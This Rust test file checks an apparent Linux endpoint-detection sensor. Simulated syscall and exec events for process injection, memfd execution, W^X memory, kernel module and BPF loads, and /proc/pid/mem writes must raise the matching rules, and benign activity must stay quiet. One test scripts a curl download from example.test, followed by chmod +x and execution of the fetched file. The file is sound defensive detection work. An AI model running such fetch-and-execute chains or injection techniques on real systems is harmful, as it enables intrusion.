//! The default Linux rules (rules/linux) on events built by the sensor's own enrichment from
//! kernel-shaped records: each T1106 behaviour raises its contract rule, the benign baselines
//! raise nothing at level >= low. Runs without root (no kernel involved).

use nativeguard_event::Event;
use nativeguard_sensor::enrich::{Clock, Enricher};
use nativeguard_sensor::process::{ProcessEntry, ProcessTable};
use nativeguard_sensor::wire::{
    fill_c_str, AddressClass, Kind, RawExec, RawFork, RawHeader, RawSyscall, Record, ARGS_LEN,
    EXE_MEMFD, PATH_LEN,
};
use nativeguard_sigma::{Level, Pipeline, RuleSet, RuleSetBuilder};
use std::sync::Arc;

const DIRECT_SYSCALL: &str = "e325d8e1-c0e6-4d16-be67-bf6bf64dfb1f";
const ANON_SYSCALL: &str = "e506ed97-ef61-41c2-8656-f4f09a41ce5c";
const MEMFD_EXEC: &str = "d9df4ebb-6ea0-4190-821e-745541353d4f";
const PTRACE_WRITE: &str = "189b8de2-315a-4328-908e-9cf0fb8d020e";
const VM_WRITEV: &str = "e33912b7-e739-498b-8564-a63a4ca1f30c";
const NON_CHILD: &str = "ba7e6d49-94bd-44fb-963c-c482807d58a5";
const WX_MEMORY: &str = "10a7f919-caf7-46cc-8d66-14161b8eb008";
const MODULE_LOAD: &str = "4918e6fe-605a-4140-8f96-67694ae51421";
const BPF_LOAD: &str = "66ed2aef-1bb3-47a8-b233-13bce4babcdd";
const FFI_MEMFD: &str = "1a4b45e3-bb6e-4f8c-8d67-eaddb128c84c";
const DOWNLOAD_EXEC: &str = "2f3ce0a4-6472-42d1-ab43-af3523fee616";
const PROC_MEM: &str = "24f90518-1264-47cb-bdf7-709a3eb2fa9c";

fn default_rules() -> Arc<RuleSet> {
    let mut builder = RuleSetBuilder::new(Pipeline::linux());
    for rule in nativeguard_rules::LINUX {
        let errors = builder.add_file(rule.path, rule.text);
        assert!(errors.is_empty(), "{}: {errors:?}", rule.path);
    }
    let (rules, errors) = builder.build();
    assert!(errors.is_empty(), "{errors:?}");
    Arc::new(rules)
}

/// Rule ids raised at level >= low by these events, in order.
fn alerts(rules: &Arc<RuleSet>, events: &[Event]) -> Vec<String> {
    let mut engine = rules.engine();
    let mut out = Vec::new();
    for event in events {
        engine.evaluate(event, &mut out);
    }
    out.iter()
        .filter(|d| d.rule.level >= Level::Low)
        .map(|d| d.rule.id.clone())
        .collect()
}

struct Host {
    enricher: Enricher,
    clock_ns: u64,
}

impl Host {
    fn new() -> Host {
        let mut table = ProcessTable::new("root:x:0:0::/root:/bin/sh\n");
        let shell = ProcessEntry {
            ppid: 1,
            image: "/usr/bin/bash".into(),
            command_line: "bash".into(),
            cwd: "/root".into(),
            ..Default::default()
        };
        table.insert(100, shell);
        let enricher = Enricher {
            table,
            proc_root: "/nonexistent-proc".into(),
            clock: Clock {
                boot_offset_ns: 1_700_000_000_000_000_000,
            },
            linkage: Default::default(),
            mappings: Default::default(),
            known_files: Default::default(),
        };
        Host {
            enricher,
            clock_ns: 0,
        }
    }

    fn header(&mut self, kind: Kind, pid: u32, ppid: u32, comm: &str) -> RawHeader {
        self.clock_ns += 1_000_000;
        RawHeader {
            kind: kind as u32,
            size: 0,
            ktime_ns: self.clock_ns,
            pid,
            tid: pid,
            ppid,
            uid: 0,
            gid: 0,
            pad0: 0,
            cgroup_id: 1,
            comm: fill_c_str(comm),
        }
    }

    fn fork(&mut self, parent: u32, child: u32) -> Event {
        let header = self.header(Kind::Fork, parent, 1, "bash");
        self.enricher
            .event(&Record::Fork(RawFork {
                header,
                child_pid: child,
                pad0: 0,
            }))
            .unwrap()
    }

    fn exec(
        &mut self,
        pid: u32,
        ppid: u32,
        filename: &str,
        argv: &[&str],
        origin: AddressClass,
        memfd: Option<&str>,
    ) -> Event {
        let header = self.header(Kind::Exec, pid, ppid, filename.rsplit('/').next().unwrap());
        let mut args = [0u8; ARGS_LEN];
        let joined: Vec<u8> = argv.iter().flat_map(|a| a.bytes().chain([0])).collect();
        args[..joined.len()].copy_from_slice(&joined);
        let exec = RawExec {
            header,
            exec_syscall: if memfd.is_some() { 322 } else { 59 },
            origin: origin as u32,
            exe_flags: if memfd.is_some() { EXE_MEMFD } else { 0 },
            args_len: joined.len() as u32,
            old_tid: pid,
            pad0: 0,
            origin_name: fill_c_str(if origin == AddressClass::File {
                "libc.so.6"
            } else {
                ""
            }),
            exe_name: fill_c_str(memfd.unwrap_or(filename.rsplit('/').next().unwrap())),
            filename: fill_c_str(filename),
            args,
        };
        self.enricher.event(&Record::Exec(Box::new(exec))).unwrap()
    }

    #[allow(clippy::too_many_arguments)]
    fn syscall(
        &mut self,
        pid: u32,
        nr: i64,
        args: [u64; 6],
        origin: AddressClass,
        origin_name: &str,
        region: AddressClass,
        text: &str,
    ) -> Event {
        let ppid = self.enricher.table.get(pid).map_or(1, |e| e.ppid);
        let header = self.header(Kind::Syscall, pid, ppid, "demo");
        let raw = RawSyscall {
            header,
            nr,
            args,
            ip: 0x1000,
            origin: origin as u32,
            region: region as u32,
            str_len: if text.is_empty() {
                0
            } else {
                text.len() as u32 + 1
            },
            origin_ino: 0,
            origin_name: fill_c_str(origin_name),
            str: fill_c_str::<PATH_LEN>(text),
        };
        self.enricher
            .event(&Record::Syscall(Box::new(raw)))
            .unwrap()
    }
}

#[test]
fn every_contract_rule_loads() {
    let rules = default_rules();
    for id in [
        DIRECT_SYSCALL,
        ANON_SYSCALL,
        MEMFD_EXEC,
        PTRACE_WRITE,
        VM_WRITEV,
        NON_CHILD,
        WX_MEMORY,
        MODULE_LOAD,
        BPF_LOAD,
        FFI_MEMFD,
        DOWNLOAD_EXEC,
        PROC_MEM,
    ] {
        let rule = rules
            .rules()
            .iter()
            .find(|r| r.id == id)
            .unwrap_or_else(|| panic!("rule {id} missing"));
        assert_eq!(rule.author.as_deref(), Some("nativeguard project"), "{id}");
    }
}

#[test]
fn benign_baselines_raise_nothing() {
    let rules = default_rules();
    let mut host = Host::new();
    let mut events = vec![host.fork(100, 101)];
    // A shell running /bin/true through libc, and a libc execve syscall event.
    events.push(host.syscall(
        101,
        59,
        [0; 6],
        AddressClass::File,
        "libc.so.6",
        AddressClass::Unknown,
        "/bin/true",
    ));
    events.push(host.exec(
        101,
        100,
        "/bin/true",
        &["/bin/true"],
        AddressClass::File,
        None,
    ));
    // ld.so mapping a library executable (file-backed: never reported by the kernel filter,
    // but an anonymous read-exec mapping from libc must not alert either).
    events.push(host.syscall(
        101,
        9,
        [0, 4096, 5, 0x22, u64::MAX, 0],
        AddressClass::File,
        "libc.so.6",
        AddressClass::Unknown,
        "",
    ));
    // A statically linked program (Go) exec'ing from its own binary.
    host.enricher
        .linkage
        .insert("/usr/bin/bash".into(), Some(false));
    events.push(host.syscall(
        100,
        59,
        [0; 6],
        AddressClass::Main,
        "bash",
        AddressClass::Unknown,
        "/bin/ls",
    ));
    let raised = alerts(&rules, &events);
    assert!(raised.is_empty(), "benign baseline raised {raised:?}");
}

#[test]
fn each_behaviour_raises_its_rule() {
    let rules = default_rules();
    let mut host = Host::new();
    host.fork(100, 200);
    host.enricher
        .linkage
        .insert("/usr/bin/bash".into(), Some(true));
    let case = |_: &mut Host, event: Event| alerts(&rules, &[event]);

    let inline = host.syscall(
        200,
        59,
        [0; 6],
        AddressClass::Main,
        "bash",
        AddressClass::Unknown,
        "/bin/true",
    );
    assert_eq!(case(&mut host, inline), [DIRECT_SYSCALL]);

    let anon = host.syscall(
        200,
        319,
        [0, 1, 0, 0, 0, 0],
        AddressClass::Anonymous,
        "",
        AddressClass::Unknown,
        "stub",
    );
    assert_eq!(case(&mut host, anon), [ANON_SYSCALL]);

    let memfd = host.exec(
        200,
        100,
        "/dev/fd/3",
        &["payload"],
        AddressClass::File,
        Some("memfd:payload"),
    );
    assert_eq!(memfd.get_str("Image"), Some("memfd:payload"));
    assert_eq!(case(&mut host, memfd), [MEMFD_EXEC]);

    host.fork(200, 201);
    let poke = host.syscall(
        200,
        101,
        [5, 201, 0, 0, 0, 0],
        AddressClass::File,
        "libc.so.6",
        AddressClass::Unknown,
        "",
    );
    assert_eq!(case(&mut host, poke), [PTRACE_WRITE]);
    let writev = host.syscall(
        200,
        311,
        [201, 0, 1, 0, 1, 0],
        AddressClass::File,
        "libc.so.6",
        AddressClass::Unknown,
        "",
    );
    assert_eq!(case(&mut host, writev), [VM_WRITEV]);

    // Into a process that is not a descendant (pid 100 is the shell, our parent).
    let mut injected = alerts(
        &rules,
        &[host.syscall(
            200,
            101,
            [5, 100, 0, 0, 0, 0],
            AddressClass::File,
            "libc.so.6",
            AddressClass::Unknown,
            "",
        )],
    );
    injected.sort();
    assert_eq!(injected, [PTRACE_WRITE, NON_CHILD]);

    let rwx = host.syscall(
        200,
        10,
        [0x7000, 4096, 7, 0, 0, 0],
        AddressClass::File,
        "libc.so.6",
        AddressClass::Anonymous,
        "",
    );
    assert_eq!(case(&mut host, rwx), [WX_MEMORY]);
    let rx = host.syscall(
        200,
        10,
        [0x7000, 4096, 5, 0, 0, 0],
        AddressClass::File,
        "libc.so.6",
        AddressClass::Anonymous,
        "",
    );
    assert!(
        case(&mut host, rx).is_empty(),
        "W^X-respecting mprotect alerted"
    );

    let module = host.syscall(
        200,
        313,
        [3, 0, 0, 0, 0, 0],
        AddressClass::File,
        "libc.so.6",
        AddressClass::Unknown,
        "",
    );
    assert_eq!(case(&mut host, module), [MODULE_LOAD]);
    let bpf = host.syscall(
        200,
        321,
        [5, 0, 0, 0, 0, 0],
        AddressClass::File,
        "libc.so.6",
        AddressClass::Unknown,
        "",
    );
    assert_eq!(case(&mut host, bpf), [BPF_LOAD]);
    let mem = host.syscall(
        200,
        257,
        [0, 0, 2, 0, 0, 0],
        AddressClass::File,
        "libc.so.6",
        AddressClass::Unknown,
        "/proc/100/mem",
    );
    assert_eq!(
        mem.get("TargetProcessId").and_then(|v| v.as_i64()),
        Some(100)
    );
    let mut raised = case(&mut host, mem);
    raised.sort();
    assert_eq!(raised, [PROC_MEM]);
    let own = host.syscall(
        200,
        257,
        [0, 0, 2, 0, 0, 0],
        AddressClass::File,
        "libc.so.6",
        AddressClass::Unknown,
        "/proc/self/mem",
    );
    assert!(
        case(&mut host, own).is_empty(),
        "own /proc/self/mem alerted"
    );

    host.fork(100, 300);
    host.exec(
        300,
        100,
        "/usr/bin/python3.11",
        &["python3", "x.py"],
        AddressClass::File,
        None,
    );
    let ffi = host.syscall(
        300,
        319,
        [0, 1, 0, 0, 0, 0],
        AddressClass::File,
        "libc.so.6",
        AddressClass::Unknown,
        "x",
    );
    assert_eq!(case(&mut host, ffi), [FFI_MEMFD]);
}

#[test]
fn download_chmod_execute_correlates() {
    let rules = default_rules();
    let mut host = Host::new();
    let mut events = Vec::new();
    for (pid, file, argv) in [
        (
            401,
            "/usr/bin/curl",
            vec!["curl", "-s", "-o", "/tmp/x", "http://example.test/x"],
        ),
        (402, "/usr/bin/chmod", vec!["chmod", "+x", "/tmp/x"]),
        (403, "/tmp/x", vec!["/tmp/x"]),
    ] {
        events.push(host.fork(100, pid));
        events.push(host.exec(pid, 100, file, &argv, AddressClass::File, None));
    }
    assert_eq!(alerts(&rules, &events), [DOWNLOAD_EXEC]);
    // Out of order (execute before download): no correlation.
    let mut host = Host::new();
    let mut events = Vec::new();
    for (pid, file, argv) in [
        (403, "/tmp/x", vec!["/tmp/x"]),
        (
            401,
            "/usr/bin/curl",
            vec!["curl", "-o", "/tmp/x", "http://example.test/x"],
        ),
        (402, "/usr/bin/chmod", vec!["chmod", "+x", "/tmp/x"]),
    ] {
        events.push(host.exec(pid, 100, file, &argv, AddressClass::File, None));
    }
    assert!(alerts(&rules, &events).is_empty());
}
